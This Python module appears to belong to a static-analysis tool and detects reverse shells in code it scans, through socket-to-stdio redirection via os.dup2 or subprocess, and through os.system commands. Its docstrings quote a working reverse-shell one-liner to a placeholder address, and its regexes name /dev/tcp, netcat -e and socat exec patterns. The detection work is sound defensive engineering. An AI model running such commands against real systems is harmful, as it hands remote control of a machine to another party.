"""Shells whose input and output are a connection, so that the other side has the machine."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from tree_sitter import Node

from wardline_analyzers.match.arguments import Arguments
from wardline_analyzers.match.match import Match, New, UnitView
from wardline_analyzers.match.tree import function_around, of_kind

_MADE: Final = re.compile(r"^socket\.(?:socket|create_connection|fromfd)(?:\(\))?")
_CALLED: Final = re.compile(r"(?i)(?:\w*_)?(?:s|c|sock|socket|conn|connection|client|peer)\d?")
_STANDARD: Final = ("0", "1", "2")
_SHELL: Final = re.compile(
    r"""(?i)["'](?:/(?:usr/)?bin/(?:env\s+)?)?(?:ba|z|da|k|c)?sh\b|["'](?:cmd|powershell|pwsh)(?:\.exe)?\b"""
)
_STREAMS: Final = ("stdin", "stdout", "stderr")


def shell_of_peer(unit: UnitView, new: New) -> Iterator[Match]:
    """`os.dup2(s.fileno(), 0)` before a shell is started, and `subprocess.Popen("/bin/sh", stdin=s)`"""
    if "socket" not in unit.names.packages:
        return
    seen: set[int] = set()
    for call in unit.syntax.nodes.get("call", ()):
        callee = call.child_by_field_name("function")
        if callee is None:
            continue
        around = function_around(call) or unit.syntax.root
        given, name = Arguments(call, unit.syntax), unit.names.resolve(callee) or ""
        if name == "os.dup2":
            place, target = given.get("0|fd"), given.get("1|fd2")
            on_standard = target is not None and unit.syntax.text(target) in _STANDARD
        else:
            place = next((each for word in _STREAMS if (each := given.get(word)) is not None), None)
            on_standard = name.startswith("subprocess.")
        if place is None or not on_standard or not _is_socket(unit, place) or around.id in seen:
            continue
        if _starts_shell(unit, around):
            seen.add(around.id)
            yield new(call)


def _is_socket(unit: UnitView, node: Node) -> bool:
    """`s.fileno()`, `s`, `s.makefile()` of a socket."""
    callee = node.child_by_field_name("function") if node.type == "call" else None
    base = callee.child_by_field_name("object") if callee is not None else node
    if base is None or base.type not in ("identifier", "attribute"):
        return False
    made = unit.names.resolve(unit.values.follow(base)) or unit.names.resolve(base) or ""
    return _MADE.match(made) is not None or _CALLED.fullmatch(unit.syntax.text(base).rpartition(".")[2]) is not None


def _starts_shell(unit: UnitView, around: Node) -> bool:
    return any(_SHELL.match(unit.syntax.text(text)) for text in of_kind(around, "string"))


def shell_by_command(match: Match) -> bool:
    """`os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")`, also as the last word of a list"""
    given = match.argument("0|args|command|cmd")
    if given is None:
        return False
    texts = [match.unit.values.constant(text) for text in of_kind(given, "string")]
    return any(isinstance(text, str) and _BY_COMMAND.search(text) for text in texts)


_BY_COMMAND: Final = re.compile(
    r"(?:sh|exec)\b[^;&|]*(?:[<>]&?|\d)\s*/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^;&|]*\s-(?:e|c|-exec)\s*\S*sh\b"
    r"|\bsocat\b.*\bexec:\S*sh\b"
)

__all__ = ["shell_by_command", "shell_of_peer"]
